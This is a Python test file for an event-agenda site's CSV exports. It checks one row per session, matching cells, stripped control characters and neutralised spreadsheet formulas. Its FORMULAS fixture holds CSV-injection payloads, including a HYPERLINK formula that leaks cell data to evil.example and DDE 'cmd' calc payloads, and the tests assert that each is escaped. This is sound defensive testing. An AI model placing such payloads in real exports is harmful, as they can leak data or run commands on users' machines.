"""evenements.csv and lieux.csv: one row per session, each cell what the JSON says,
formulas neutralised, numbers kept."""

from __future__ import annotations

import csv
import io
import json
from xml.etree import ElementTree as ET

from hypothesis import given, settings
from hypothesis import strategies as st


def test_events_csv_has_one_row_per_session_in_utf8(built_site):
    text = (built_site.out / "evenements.csv").read_bytes().decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(text)))
    by_slug: dict[str, list[dict]] = {}
    for row in rows:
        by_slug.setdefault(row["slug"], []).append(row)
    assert len(by_slug) == 17
    assert [r["begin"] for r in by_slug["cycle-trois-seances"]] == [
        "2027-01-09T10:00:00+01:00",
        "2027-01-16T10:00:00+01:00",
        "2027-01-23T10:00:00+01:00",
    ]
    assert len(by_slug["exposition-hiver"]) == 70
    first = by_slug["atelier-markdown-piege"][0]
    assert first["title"].startswith("Sciences, jeux ; et \\ défis")
    assert first["departement_code"] == "08" and first["postal_code"] == "08200"
    assert by_slug["webinaire-en-ligne"][0]["venue_slug"] == ""


def expected_csv_rows(record: dict) -> list[dict[str, str]]:
    """The CSV rows of one evenements.json record, each cell cleaned on its own."""
    from agenda.exports_csv import NUMERIC_CSV_COLUMNS, csv_text

    def cell(value: object) -> str:
        if value is None:
            return ""
        if isinstance(value, bool):
            return "oui" if value else "non"
        return str(value)

    rows = []
    for timing in record["timings"]:
        place = (timing["location"] if "location" in timing else record["location"]) or {}
        values = {
            "slug": record["slug"],
            "title": record["title"],
            "status": record["status"],
            "begin": timing["begin"],
            "end": timing["end"],
            "all_day": timing["allDay"],
            "uid": timing["uid"],
            "attendance_mode": record["attendanceMode"],
            "online_link": record["onlineAccessLink"],
            "venue_slug": place.get("slug"),
            "venue_name": place.get("name"),
            "address": place.get("address"),
            "postal_code": place.get("postalCode"),
            "city": place.get("city"),
            "departement_code": place.get("departementCode"),
            "departement": place.get("departement"),
            "latitude": place.get("latitude"),
            "longitude": place.get("longitude"),
            "organizer": record["organizer"]["name"],
            "partners": " | ".join(p["name"] for p in record["partners"]),
            "themes": " | ".join(record["themes"]),
            "format": record["format"],
            "audience": " | ".join(record["audience"]),
            "age_min": record["age"]["min"],
            "age_max": record["age"]["max"],
            "conditions": record["conditions"],
            "free": record["free"],
            "registration": record["registration"]["value"] if record["registration"] else "",
            "accessibility": " | ".join(c for c, on in record["accessibility"].items() if on),
            "url": record["url"],
            "ics": record["ics"],
        }
        rows.append(
            {
                name: cell(value) if name in NUMERIC_CSV_COLUMNS else csv_text(cell(value))
                for name, value in values.items()
            }
        )
    return rows


def test_every_csv_row_is_its_json_timing_with_each_cell_cleaned(built_site):
    # Each event's cells are cleaned once and shared by its rows (an exhibition has 70):
    # every row must still hold its own timing and its own venue (touring, online).
    data = json.loads((built_site.out / "evenements.json").read_text(encoding="utf-8"))
    text = (built_site.out / "evenements.csv").read_bytes().decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(text)))
    expected = [row for record in data["events"] for row in expected_csv_rows(record)]
    assert rows == expected
    assert len({r["slug"] for r in rows}) == 17 and len(rows) > 70


def test_csv_cells_neutralise_text_and_keep_numbers():
    from agenda.exports_csv import csv_cells

    assert csv_cells(
        {"title": "=1+1", "free": True, "uid": None, "latitude": -1.5, "age_min": None}
    ) == {"title": "'=1+1", "free": "oui", "uid": "", "latitude": "-1.5", "age_min": ""}
    assert csv_cells({"conditions": "Gratuit\r\nsur\x1binscription"}) == {
        "conditions": "Gratuit\nsurinscription"
    }


def test_venues_csv(built_site):
    rows = list(
        csv.DictReader(io.StringIO((built_site.out / "lieux.csv").read_text(encoding="utf-8")))
    )
    assert [r["postal_code"] for r in rows] == ["88000", "68200", "08200"]
    assert rows[2]["name"] == "Salle des fêtes; Sedan"


FORMULAS = {
    "title": '=HYPERLINK("https://evil.example/?"&A1,"clic")',
    "organizer": "+cmd|' /C calc'!A0",
    "venue_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "city": "-2+3+cmd|' /C calc'!A0",
    "address": "\t=1+1",
    "conditions": "\r=1+1",
    "registration": "=2+5",
}


def formula_catalogue(site):
    from dataclasses import replace

    from tests.test_ical import hostile_catalogue

    catalogue, links, history = hostile_catalogue(site)
    partner = replace(catalogue.partners["la-nef"], name=FORMULAS["organizer"])
    venue = replace(
        catalogue.venues["mediatheque-epinal"],
        name=FORMULAS["venue_name"],
        city=FORMULAS["city"],
        address=FORMULAS["address"],
        access="=1+1",
        phone="+33 3 29 00 00 00",
        url="",
        lon=-1.5,
    )
    event = replace(
        catalogue.events["atelier"],
        title=FORMULAS["title"],
        price=FORMULAS["conditions"],
        registration=FORMULAS["registration"],
        online="",
        age_min=8,
    )
    return (
        replace(
            catalogue,
            partners={partner.slug: partner},
            venues={venue.slug: venue},
            events={event.slug: event},
            upcoming=(event,),
            past=(),
        ),
        links,
        history,
    )


FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def test_events_csv_neutralises_formulas_in_text_cells_and_keeps_numbers(site):
    from agenda.exports_csv import NUMERIC_CSV_COLUMNS, events_csv

    catalogue, links, _ = formula_catalogue(site)
    rows = list(csv.DictReader(io.StringIO(events_csv(catalogue, links).decode("utf-8"))))
    assert len(rows) == 2  # one per session: nothing split a row
    for row in rows:
        for column, value in row.items():
            if column in NUMERIC_CSV_COLUMNS:
                continue
            assert not value.startswith(FORMULA_START), (column, value)
        assert row["title"] == "'" + FORMULAS["title"]
        assert row["organizer"] == "'" + FORMULAS["organizer"]
        assert row["venue_name"] == "'" + FORMULAS["venue_name"]
        assert row["city"] == "'" + FORMULAS["city"]
        assert row["address"] == "'" + " =1+1"
        assert row["conditions"] == "'" + "\n=1+1"
        assert row["registration"] == "'=2+5"
        assert float(row["longitude"]) == -1.5  # a number stays a number
        assert row["age_min"] == "8"


def test_venues_csv_neutralises_formulas_and_keeps_coordinates(site):
    from agenda.exports_csv import venues_csv

    catalogue, links, _ = formula_catalogue(site)
    rows = list(csv.DictReader(io.StringIO(venues_csv(catalogue, links).decode("utf-8"))))
    assert len(rows) == 1
    row = rows[0]
    assert row["name"] == "'" + FORMULAS["venue_name"]
    assert row["access"] == "'=1+1"
    assert row["phone"] == "'+33 3 29 00 00 00"
    assert row["longitude"] == "-1.5" and float(row["latitude"]) > 0


def test_csv_cells_lose_control_characters_but_stay_one_row(site):
    from agenda.exports_csv import events_csv
    from tests.test_ical import HOSTILE, hostile_catalogue

    catalogue, links, _ = hostile_catalogue(site)
    rows = list(csv.reader(io.StringIO(events_csv(catalogue, links).decode("utf-8"))))
    assert len(rows) == 3 and len({len(r) for r in rows}) == 1
    title = rows[1][1]
    assert "\x1b" not in title and "\x00" not in title and "\ufffe" not in title
    assert title.startswith("Nef")
    assert HOSTILE.startswith("Nef")


@settings(max_examples=300, deadline=None)
@given(text=st.text())
def test_any_text_is_one_safe_csv_cell_and_well_formed_xml(text):
    from agenda.exports_csv import csv_text
    from agenda.text import xml_text

    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerow([csv_text(text), "1.5"])
    [row] = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert row[1] == "1.5"
    assert not row[0].startswith(("=", "+", "-", "@", "\t", "\r"))
    element = ET.Element("summary")
    element.text = xml_text(text)
    element.set("label", xml_text(text))
    parsed = ET.fromstring(ET.tostring(element, encoding="utf-8"))
    assert parsed.text in (xml_text(text), None)
    assert parsed.get("label") == xml_text(text)
